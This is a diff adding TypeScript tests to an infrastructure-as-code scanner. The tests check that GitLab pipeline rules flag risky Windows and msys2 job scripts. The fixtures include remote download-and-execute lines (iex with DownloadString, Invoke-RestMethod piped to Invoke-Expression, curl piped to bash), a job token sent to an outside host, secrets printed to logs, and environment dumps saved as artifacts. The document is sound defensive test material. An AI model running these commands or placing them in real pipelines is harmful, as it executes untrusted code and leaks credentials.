@@ -117,3 +117,114 @@ test('a Windows job through a template of an included file', async () => {
     t.cleanup();
   }
 });
+
+/** What the GitLab rules report in a pipeline, as `rule:line` (the script line, for a finding on a `script:` key). */
+const reported = (lines: string[]) => {
+  const p = parse(lines);
+  return gitlabPlatform.rules.flatMap((rule) => [...rule.check(p)].map((hit) => `${rule.id.replace('iac/gitlab-', '')}:${hit.detailLine ?? hit.line}${hit.severity ? `:${hit.severity}` : ''}`)).sort();
+};
+
+test('the command-reading rules read a Windows job\'s script as PowerShell', () => {
+  const script = [
+    '  script:',
+    '    - Write-Host "Deploying with $env:DEPLOY_TOKEN"',
+    "    - iex ((New-Object System.Net.WebClient).DownloadString('https://example.org/install.ps1'))",
+    '    - Invoke-RestMethod -Uri http://example.org/setup.ps1 | Invoke-Expression',
+    "    - Invoke-WebRequest -Headers @{ 'JOB-TOKEN' = $env:CI_JOB_TOKEN } -Uri https://hooks.example.org/done",
+    '    - $env:NODE_TLS_REJECT_UNAUTHORIZED = "0"',
+    "    - 'Get-ChildItem env: | Out-File -FilePath logs\\env.txt'",
+    '  artifacts:',
+    '    paths:',
+    '      - logs/',
+  ];
+  assert.deepEqual(reported(['stages: [build]', 'win:', '  tags: [windows]', ...script]), [
+    'credential-artifact:13',
+    'curl-pipe-shell:6',
+    'curl-pipe-shell:7:high',
+    'job-token-sent-elsewhere:8',
+    'secret-printed:5',
+    'tls-verification-disabled:9',
+  ]);
+  // The same lines in a Linux job's shell print $env, a shell variable, and pipe nothing into a shell (the TLS switch is read as text).
+  assert.deepEqual(reported(['stages: [build]', 'linux:', ...script]), ['tls-verification-disabled:8']);
+});
+
+test('a Windows job prints a CI/CD variable by its name in the script too: GitLab\'s runner sets both', () => {
+  const p = parse(['stages: [build]', 'win:', '  tags: [windows]', '  script:', '    - echo "token $DEPLOY_TOKEN"', '    - Write-Host ${env:SIGNING_KEY}']);
+  const rule = gitlabPlatform.rules.find((r) => r.id === 'iac/gitlab-secret-printed')!;
+  assert.deepEqual([...rule.check(p)].map((hit) => hit.message), [
+    'job win prints $DEPLOY_TOKEN (line 5) to the job log; a secret that is not masked appears there in clear.',
+    'job win prints $env:SIGNING_KEY (line 6) to the job log; a secret that is not masked appears there in clear.',
+  ]);
+});
+
+test('what a Windows job does not print, nor pipe into a shell', () => {
+  assert.deepEqual(
+    reported([
+      'stages: [build]',
+      'win:',
+      '  tags: [windows]',
+      '  script:',
+      "    - Write-Host 'literal $env:DEPLOY_TOKEN'",
+      '    - Write-Host "length $($env:DEPLOY_TOKEN.Length)"',
+      '    - $token = Write-Output $env:DEPLOY_TOKEN',
+      '    - Write-Output $env:REGISTRY_PASSWORD | docker login -u ci --password-stdin registry.example.org',
+      '    - Write-Output "$env:API_TOKEN" > token.txt',
+      // Set-Variable, not the shell builtin that lists variables.
+      '    - set',
+      '    - $release = Invoke-RestMethod -Uri https://example.org/api/releases/latest',
+      '    - Invoke-WebRequest -Uri https://example.org/tool-1.2.0.zip -OutFile tool.zip',
+    ]),
+    [],
+  );
+});
+
+test('a Windows job\'s bash -c text is read as POSIX shell, with PowerShell\'s variables expanded first', () => {
+  assert.deepEqual(
+    reported([
+      'stages: [build]',
+      'msys2:',
+      '  tags: [win32-ps]',
+      '  variables:',
+      '    CHERE_INVOKING: "yes"',
+      '  script:',
+      '    - C:\\msys64\\usr\\bin\\bash -lc "curl -sSL https://example.org/setup.sh | bash"',
+      "    - C:\\msys64\\usr\\bin\\bash -lc 'echo $DEPLOY_TOKEN'",
+      '    - C:\\msys64\\usr\\bin\\bash -lc "echo $env:SIGNING_KEY"',
+      // PowerShell expands $DEPLOY_TOKEN (GitLab's runner sets each variable in the script too) before bash reads the text, and leaves out its own $null.
+      '    - C:\\msys64\\usr\\bin\\bash -lc "echo $DEPLOY_TOKEN"',
+      '    - C:\\msys64\\usr\\bin\\bash -lc "echo $null"',
+      '    - C:\\msys64\\usr\\bin\\bash -lc "bash -x ./ci/test-msys2.sh"',
+      '    - C:\\msys64\\usr\\bin\\bash -lc "curl -fsSLo tool.sh https://example.org/tool.sh && bash tool.sh"',
+    ]),
+    ['curl-pipe-shell:7', 'download-unverified:13', 'secret-printed:10', 'secret-printed:8', 'secret-printed:9'],
+  );
+});
+
+test('the POSIX scripts a Windows job runs through bash are read; one PowerShell runs itself is not', async () => {
+  const t = tempTree({
+    '.gitlab-ci.yml': [
+      'stages: [test]',
+      'msys2:',
+      '  tags: [win32-ps]',
+      '  script:',
+      '    - C:\\msys64\\usr\\bin\\bash ci/show-env.sh',
+      '    - C:\\msys64\\usr\\bin\\bash -lc "bash -x ./ci/test-msys2.sh"',
+      // PowerShell opens a file it runs by its path with the program Windows associates with it.
+      '    - ./ci/direct.sh',
+      '',
+    ].join('\n'),
+    'ci/show-env.sh': '#!/bin/bash\nenv\n',
+    'ci/test-msys2.sh': '#!/bin/bash\necho "signing with $SIGNING_KEY"\n',
+    'ci/direct.sh': '#!/bin/bash\nprintenv\n',
+  });
+  try {
+    const result = await runScan({ target: t.dir, scannerSet: [iacScanner] });
+    assert.deepEqual(
+      result.findings.filter((f) => f.ruleId.startsWith('iac/gitlab-')).map((f) => `${f.ruleId} ${f.location.path}:${f.location.startLine}`).sort(),
+      ['iac/gitlab-environment-printed ci/show-env.sh:2', 'iac/gitlab-secret-printed ci/test-msys2.sh:2'],
+    );
+  } finally {
+    t.cleanup();
+  }
+});
